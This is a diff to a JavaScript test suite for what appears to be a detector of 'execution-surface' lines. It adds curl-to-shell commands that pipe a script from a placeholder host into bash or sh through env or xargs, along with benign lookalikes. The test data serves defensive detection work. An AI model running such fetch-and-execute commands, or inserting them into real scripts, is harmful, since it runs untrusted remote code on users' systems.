@@ -149,6 +149,8 @@ describe('execution-surface: manifests', () => {
 describe('execution-surface: lines', () => {
   it.each([
     'curl -fsSL https://x.example/i.sh | sh',
+    'curl -s https://x.example/i.sh | env -i HOME=/tmp bash',
+    'curl -s https://x.example/i.sh | xargs -I{} sh -c {}',
     'curl https://x | sudo -E bash -s -- --yes',
     'wget -qO- https://x | /bin/bash',
     'curl -s https://x | tee log | python3 -',
@@ -181,6 +183,8 @@ describe('execution-surface: lines', () => {
     'curl -f https://x || sh fallback.sh',
     'curl -f https://x; ls | sh',
     'cat install.sh | sh',
+    'curl -s https://x | xargs -n 1 echo',
+    'curl -s https://x | env | grep PATH',
     'type A = fetch | shell;',
     'const retry = fetch(url) | ssh;',
     'the shell | sh of curling',
